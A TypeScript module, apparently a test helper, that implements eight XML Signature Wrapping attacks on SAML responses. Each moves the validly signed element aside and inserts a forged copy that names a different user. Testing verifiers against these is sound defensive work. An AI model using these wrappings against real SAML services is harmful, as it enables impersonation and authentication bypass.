/**
 * The eight known ways to wrap a signed element (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be",
 * 2012; numbered as SAML Raider numbers them), on documents of the stand-in. In all of them the original, with its
 * valid signature, is moved to where a careless reader does not look, and a forged copy stands where it does.
 */

const assertionOf = (xml: string): string => cut(xml, /<saml2:Assertion .*<\/saml2:Assertion>/s);
const responseOf = (xml: string): string => cut(xml, /<saml2p:Response .*<\/saml2p:Response>/s);
/** The signature of an element: the first child with that name. */
const signatureOf = (element: string): string => cut(element, /<ds:Signature .*?<\/ds:Signature>/s);
const unsigned = (element: string): string => element.replace(signatureOf(element), "");
const into = (signature: string, content: string): string =>
  signature.replace("</ds:Signature>", `<ds:Object>${content}</ds:Object></ds:Signature>`);

function cut(xml: string, pattern: RegExp): string {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error(`the document has no ${String(pattern)}`);
  return found;
}

/** A copy that says what the attacker wants, under another ID. */
function forged(element: string): string {
  return element
    .replaceAll("alice@example.com", "mallory@example.com")
    .replace(/ ID="([^"]*)"/, ' ID="evil$1"');
}

/** One way of wrapping; `signed` is what has to be signed in the document it is given. */
export interface Wrapping {
  readonly name: string;
  readonly signed: "response" | "assertion";
  wrap(xml: string): string;
}

export const wrappings: readonly Wrapping[] = [
  {
    name: "XSW1",
    signed: "response",
    wrap(xml) {
      const original = responseOf(xml);
      const signature = signatureOf(original);
      return forged(original).replace(signature, into(signature, unsigned(original)));
    },
  },
  {
    name: "XSW2",
    signed: "response",
    wrap(xml) {
      const original = responseOf(xml);
      const signature = signatureOf(original);
      return forged(original).replace(signature, `${unsigned(original)}${signature}`);
    },
  },
  {
    name: "XSW3",
    signed: "assertion",
    wrap(xml) {
      const original = assertionOf(xml);
      return xml.replace(original, `${forged(unsigned(original))}${original}`);
    },
  },
  {
    name: "XSW4",
    signed: "assertion",
    wrap(xml) {
      const original = assertionOf(xml);
      const evil = forged(unsigned(original));
      return xml.replace(original, evil.replace("</saml2:Assertion>", `${original}</saml2:Assertion>`));
    },
  },
  {
    name: "XSW5",
    signed: "assertion",
    wrap(xml) {
      const original = assertionOf(xml);
      return xml.replace(original, `${forged(original)}${unsigned(original)}`);
    },
  },
  {
    name: "XSW6",
    signed: "assertion",
    wrap(xml) {
      const original = assertionOf(xml);
      const signature = signatureOf(original);
      const wrapped = signature.replace("</ds:Signature>", `${unsigned(original)}</ds:Signature>`);
      return xml.replace(original, forged(original).replace(signature, wrapped));
    },
  },
  {
    name: "XSW7",
    signed: "assertion",
    wrap(xml) {
      const original = assertionOf(xml);
      const evil = forged(unsigned(original));
      return xml.replace(original, `<saml2p:Extensions>${evil}</saml2p:Extensions>${original}`);
    },
  },
  {
    name: "XSW8",
    signed: "assertion",
    wrap(xml) {
      const original = assertionOf(xml);
      const signature = signatureOf(original);
      return xml.replace(original, forged(original).replace(signature, into(signature, unsigned(original))));
    },
  },
];
